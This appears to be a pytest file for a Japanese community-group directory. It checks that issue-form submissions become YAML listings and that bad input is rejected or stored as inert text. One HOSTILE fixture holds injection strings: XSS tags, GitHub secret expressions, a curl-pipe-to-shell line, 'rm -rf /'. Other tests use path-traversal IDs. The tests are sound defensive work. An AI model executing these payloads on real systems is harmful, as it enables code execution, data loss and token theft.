"""From a submitted issue form to a listing file: good, incomplete, wrong and hostile bodies."""

from __future__ import annotations

import datetime
from pathlib import Path

import pytest
import yaml

from kyodo.content import formats
from kyodo.contributions.forms import Form, form_named
from kyodo.contributions.intake import Intake, intake
from kyodo.contributions.issuebody import MAX_BODY
from kyodo.contributions.replies import fenced, intake_comment
from tests.conftest import FIXTURES
from tests.formkit import render_body

TODAY = datetime.date(2026, 11, 28)
NEW = form_named("group-new")
UPDATE = form_named("group-update")
WITHDRAW = form_named("group-withdraw")
CASE = form_named("case")
CONFIRM = "確認"
EXISTING = """\
# yaml-language-server: $schema=../../kyodo/content/schemas/group.schema.json
id: tsukimi-kai
name: 月見の会
name_kana: つきみのかい
kind: 市民活動団体
wards: [泉区]
fields: [culture-sports]
summary: 月見の夕べを開いている会です。
website: https://tsukimi.example.jp/
contact:
  name: 事務局
  email: info@tsukimi.example.jp
status: 活動中
last_confirmed: '2025-01-10'
consent:
  given_by: 会長
  date: '2025-01-10'
  fields: [name, email]
maintainers: [tsukimi-office]
"""


def form(name: str) -> Form:
    found = form_named(name)
    assert found is not None
    return found


def confirmations(name: str) -> list[str]:
    field = form(name).field(CONFIRM)
    assert field is not None
    return list(field.options)


GOOD = {
    "ID（ページのアドレス）": "hoshizora-kai",
    "名称": "ほしぞら子ども会",
    "読み": "ほしぞらこどもかい",
    "種別": "市民活動団体",
    "区": ["泉区"],
    "活動分野": ["子どもの健全育成を図る活動", "科学技術の振興を図る活動"],
    "一行紹介": "星空観察会を開いている子ども会です。",
    "状態": "活動中",
    "掲載同意：同意した人": "会長",
    "掲載同意：同意した日": "2026-10-01",
    CONFIRM: confirmations("group-new"),
}


@pytest.fixture(autouse=True)
def fixed_today(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "today", lambda: TODAY)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    (tmp_path / "directory" / "groups").mkdir(parents=True)
    (tmp_path / "directory" / "businesses").mkdir()
    (tmp_path / "directory/groups/tsukimi-kai.yml").write_text(EXISTING, encoding="utf-8")
    return tmp_path


def submit(repo: Path, name: str, answers: dict[str, str | list[str]]) -> Intake:
    return intake(form(name), render_body(form(name), answers), "hoshizora-sec", repo, TODAY)


def test_a_real_form_body_becomes_a_listing_file(repo: Path) -> None:
    body = (FIXTURES / "issue-group-new.md").read_text(encoding="utf-8")
    result = intake(form("group-new"), body, "hoshizora-sec", repo, TODAY)
    assert result.problems == ()
    assert (result.action, result.path) == ("create", "directory/groups/hoshizora-kai.yml")
    assert result.text == (
        "id: hoshizora-kai\n"
        "name: ほしぞら子ども会\n"
        "name_kana: ほしぞらこどもかい\n"
        "kind: 市民活動団体\n"
        "wards: [泉区]\n"
        "fields: [children, science-technology]\n"
        "summary: 星空観察会を開いている子ども会です。\n"
        "description: |-\n"
        "  月に1回、公園で星空観察会を開いています。\n"
        "\n"
        "  - 望遠鏡の使い方\n"
        "  - 星座の話\n"
        "offers: [ボランティア]\n"
        "contact:\n"
        "  name: 事務局\n"
        "  email: info@hoshizora.example.jp\n"
        "status: 活動中\n"
        "last_confirmed: '2026-11-28'\n"
        "consent:\n"
        "  given_by: 会長\n"
        "  date: '2026-10-01'\n"
        "  fields: [name, email]\n"
        "maintainers: [hoshizora-sec]\n"
    )


def test_the_requester_joins_the_maintainers_once(repo: Path) -> None:
    result = submit(repo, "group-new", {**GOOD, "編集担当": "@Hoshizora-Sec\n- hoshizora-kaicho"})
    assert result.problems == ()
    assert yaml.safe_load(result.text or "")["maintainers"] == ["Hoshizora-Sec", "hoshizora-kaicho"]


def test_empty_answers_and_unticked_confirmations(repo: Path) -> None:
    result = submit(repo, "group-new", {**GOOD, "名称": "", "区": [], "種別": "", CONFIRM: []})
    assert result.problems == (
        "「名称」を書いてください。",
        "「種別」を選んでください。",
        "「区」を1つ以上選んでください。",
        "「確認」の「団体（事業者）の代表者などから、この名簿への掲載に同意を得ています。」に印を付けてください。",
        "「確認」の「連絡先は団体の窓口で、個人の自宅や携帯電話ではありません。」に印を付けてください。",
        "「確認」の「書いた内容はだれでも見られる形で公開され、あとで消しても変更の履歴に残ることを理解しています。」に印を付けてください。",
    )
    assert not result.ok


def test_wrong_values_are_explained_like_the_checker_does(repo: Path) -> None:
    answers = {
        **GOOD,
        "読み": "ホシゾラ",
        "一行紹介": "あ" * 61,
        "連絡先：メールアドレス": "info@@example",
        "設立年": "２０３０",
        "掲載同意：同意した日": "2026/10/01",
    }
    assert submit(repo, "group-new", answers).problems == (
        "読み (name_kana) の「ホシゾラ」は使えません。読みはひらがなで書き、ひらがなで始めてください（先頭に空白、「ー」、「・」は置けません）。例: name_kana: こまどりおかちょうないかい",
        "一行紹介 (summary) が長すぎます（61文字）。60文字以内に縮めてください。",
        "連絡先のメールアドレス (contact.email) の「info@@example」はメールアドレスの形になっていません。"
        "@ の前は半角の英数字と . _ + - だけで書いてください（? や & は使えません）。例: info@komadorioka.example.jp",
        "設立年 (founded) の「2030」は未来の年です。2026年までの年を書いてください。",
        "掲載同意の同意した日 (consent.date) の「2026/10/01」は日付の形になっていません。年-月-日の順に半角で書いてください。例: 2026-04-01",
        "連絡先のメールアドレス (contact.email) を公開する同意が記録されていません。掲載同意 (consent) の fields に email を書き加えてください。同意がない場合はこの行を消してください（このファイルは誰でも見られます）。",
    )


def test_an_id_already_in_use(repo: Path) -> None:
    result = submit(repo, "group-new", {**GOOD, "ID（ページのアドレス）": "tsukimi-kai"})
    assert result.path is None
    assert result.problems == (
        "「ID（ページのアドレス）」の「tsukimi-kai」はすでに使われています（directory/groups/tsukimi-kai.yml）。"
        "ほかと重ならない ID にしてください。掲載内容を直したいときは「掲載内容の更新」の用紙を使ってください。",
    )


@pytest.mark.parametrize(
    "ident",
    ["../../.github/workflows/x", "x/../../y", "Hoshizora", "a b", "x" * 61, "..", "-x"],
)
def test_an_id_that_is_no_safe_file_name_names_no_file(repo: Path, ident: str) -> None:
    result = submit(repo, "group-new", {**GOOD, "ID（ページのアドレス）": ident})
    assert (result.path, result.text) == (None, None)
    shown = ident if len(ident) <= 80 else ident[:80] + "…"
    assert result.problems == (
        f"「ID（ページのアドレス）」の「{shown}」は使えません。ID は半角の英小文字・数字・ハイフン（-）だけで、"
        "60文字以内で書いてください。例: komadorioka-chonaikai",
    )


def test_the_other_answers_are_checked_even_when_the_id_is_unusable(repo: Path) -> None:
    answers = {**GOOD, "ID（ページのアドレス）": "../x", "読み": "ホシゾラ"}
    assert submit(repo, "group-new", answers).problems == (
        "「ID（ページのアドレス）」の「../x」は使えません。ID は半角の英小文字・数字・ハイフン（-）だけで、"
        "60文字以内で書いてください。例: komadorioka-chonaikai",
        "読み (name_kana) の「ホシゾラ」は使えません。読みはひらがなで書き、ひらがなで始めてください（先頭に空白、「ー」、「・」は置けません）。例: name_kana: こまどりおかちょうないかい",
    )


HOSTILE = "\n".join(
    [
        "<script>alert('x')</script> <img src=x onerror=alert(1)>",
        "${{ github.token }} ${{ secrets.GITHUB_TOKEN }}",
        "`id` $(curl https://example.jp/x | sh) ; rm -rf / && echo",
        "::set-output name=ok::true",
        "::add-mask::x",
        "id: other-group",
        "maintainers: [mallory]",
        "'\"\\ %0A\t|",
    ]
)


def test_hostile_text_is_kept_as_text_and_changes_nothing_else(repo: Path) -> None:
    result = submit(repo, "group-new", {**GOOD, "紹介文": HOSTILE})
    assert result.problems == ()
    data = yaml.safe_load(result.text or "")
    assert data["description"] == HOSTILE
    assert data["id"] == "hoshizora-kai"
    assert data["maintainers"] == ["hoshizora-sec"]
    assert set(data) == {
        "id", "name", "name_kana", "kind", "wards", "fields", "summary", "description",
        "status", "last_confirmed", "consent", "maintainers",
    }  # fmt: skip


def test_yaml_written_into_a_one_line_answer_is_refused(repo: Path) -> None:
    result = submit(repo, "group-new", {**GOOD, "名称": "x\nid: other"})
    assert result.problems == ("「名称」は1行で書いてください（改行が入っています）。",)
    assert yaml.safe_load(result.text or "")["id"] == "hoshizora-kai"


def test_a_heading_smuggled_into_an_answer_is_refused(repo: Path) -> None:
    smuggled = "よろしくお願いします。\n\n### ID（ページのアドレス）\n\ntsukimi-kai"
    result = submit(repo, "group-new", {**GOOD, "紹介文": smuggled})
    assert (
        result.problems[0]
        == "見出し「ID（ページのアドレス）」が2回あります。1回だけにしてください。"
    )
    assert not result.ok


def test_a_body_too_long_is_refused_before_reading(repo: Path) -> None:
    body = render_body(form("group-new"), {**GOOD, "紹介文": "あ" * MAX_BODY})
    result = intake(form("group-new"), body, "hoshizora-sec", repo, TODAY)
    assert (
        result.problems[0] == f"本文が長すぎます（{len(body)}文字）。65536文字以内にしてください。"
    )
    assert result.path is None


def test_very_long_text_in_an_answer(repo: Path) -> None:
    result = submit(repo, "group-new", {**GOOD, "紹介文": "長" * 5000})
    assert result.problems == (
        "紹介文 (description) が長すぎます（5000文字）。1000文字以内に縮めてください。",
    )


def test_a_body_not_written_with_the_form(repo: Path) -> None:
    result = intake(form("group-new"), "掲載してください。\n", "hoshizora-sec", repo, TODAY)
    assert result.path is None
    assert (
        result.problems[0]
        == "「ID（ページのアドレス）」の欄が見つかりません。用紙（テンプレート）から作り直してください。"
    )


def test_an_update_changes_only_what_was_answered(repo: Path) -> None:
    answers = {
        "ID（ページのアドレス）": "tsukimi-kai",
        "一行紹介": "月見の夕べと星の話の会を開いています。",
        "区": ["泉区", "青葉区"],
        "消す項目": ["ウェブサイト"],
        CONFIRM: confirmations("group-update"),
    }
    result = submit(repo, "group-update", answers)
    assert result.problems == ()
    assert (result.action, result.path) == ("update", "directory/groups/tsukimi-kai.yml")
    data = yaml.safe_load(result.text or "")
    original = yaml.safe_load(EXISTING)
    assert data == {
        **{k: v for k, v in original.items() if k != "website"},
        "summary": "月見の夕べと星の話の会を開いています。",
        "wards": ["青葉区", "泉区"],
        "last_confirmed": "2026-11-28",
    }
    assert result.base_text == EXISTING


def test_a_plain_confirmation_only_renews_the_date(repo: Path) -> None:
    answers = {"ID（ページのアドレス）": "tsukimi-kai", CONFIRM: confirmations("group-update")}
    result = submit(repo, "group-update", answers)
    assert yaml.safe_load(result.text or "") == {
        **yaml.safe_load(EXISTING),
        "last_confirmed": "2026-11-28",
    }


def test_an_update_of_a_listing_that_does_not_exist(repo: Path) -> None:
    answers = {"ID（ページのアドレス）": "tsukimi", CONFIRM: confirmations("group-update")}
    assert submit(repo, "group-update", answers).problems == (
        "「ID（ページのアドレス）」の「tsukimi」の団体は名簿にありません。"
        "団体のページの一番下にある掲載ファイルの名前（.yml の前の部分）を書いてください。",
    )


def withdraw(repo: Path, reason: str) -> Intake:
    answers = {
        "ID（ページのアドレス）": "tsukimi-kai",
        "取り下げの理由": reason,
        CONFIRM: confirmations("group-withdraw"),
    }
    return submit(repo, "group-withdraw", answers)


def test_withdrawing_for_a_pause_sets_the_status(repo: Path) -> None:
    result = withdraw(repo, "活動を休止する（「休止中」と表示します）")
    assert result.problems == () and result.action == "update"
    assert yaml.safe_load(result.text or "")["status"] == "休止中"


def test_a_reason_not_on_the_form(repo: Path) -> None:
    assert withdraw(repo, "その他").problems == (
        "「取り下げの理由」は次から選んでください: 「活動を休止する（「休止中」と表示します）」、"
        "「解散した（一覧から外します）」、「掲載をやめる（掲載ファイルを削除します）」",
    )


def test_withdrawing_for_good_deletes_the_file(repo: Path) -> None:
    result = withdraw(repo, "掲載をやめる（掲載ファイルを削除します）")
    assert (result.action, result.path, result.text, result.problems) == (
        "delete",
        "directory/groups/tsukimi-kai.yml",
        None,
        (),
    )
    assert result.change() is not None and result.change().status == "removed"  # type: ignore[union-attr]


def test_a_case_is_checked_but_left_to_the_editors(repo: Path) -> None:
    answers: dict[str, str | list[str]] = {
        "ID（ページのアドレス）": "hoshizora-kansatsukai",
        "タイトル": "公園での星空観察会",
        "概要": "子ども会と公園の指定管理者が、夜の公園で観察会を開きました。",
        "実施年": "2025",
        "区": ["泉区"],
        "活動分野": ["子どもの健全育成を図る活動"],
        "協働の形態": ["共催"],
        "協働した主体：名簿に載っている主体": "tsukimi-kai",
        "目的": "夜の公園を安全に楽しむこと。",
        "課題": "夜間の安全管理。",
        "取り組み": "見守り役を決めました。",
        "成果": "毎年続いています。",
        "学んだこと": "役割を先に決めることです。",
        "経過": "最初は少人数でした。",
        CONFIRM: confirmations("case"),
    }
    result = submit(repo, "case", answers)
    assert (result.action, result.path, result.problems) == ("case", None, ())
    wrong = submit(repo, "case", {**answers, "実施年": "昨年"})
    assert wrong.problems == (
        "実施年 (year) は半角数字の整数で書いてください（いまは「昨年」です）。例: year: 2024",
    )


def test_the_reply_lists_what_to_fix_verbatim(repo: Path) -> None:
    result = submit(repo, "group-new", {**GOOD, "読み": "```ホシゾラ````"})
    comment = intake_comment(result, None)
    assert comment.startswith(
        "申請の内容に、直していただきたいところが1件あります。\n\n`````text\n1. 読み (name_kana) の"
    )
    assert comment.endswith(
        "この issue の本文を編集して（本文の右上の「…」から「Edit」）直してください。"
        "保存すると、もう一度自動で確かめます。わからないときは、このままコメントでご質問ください。"
    )


def test_a_fence_is_longer_than_any_backticks_inside() -> None:
    assert fenced("a ```` b") == "`````text\na ```` b\n`````"
    assert fenced("plain") == "```text\nplain\n```"
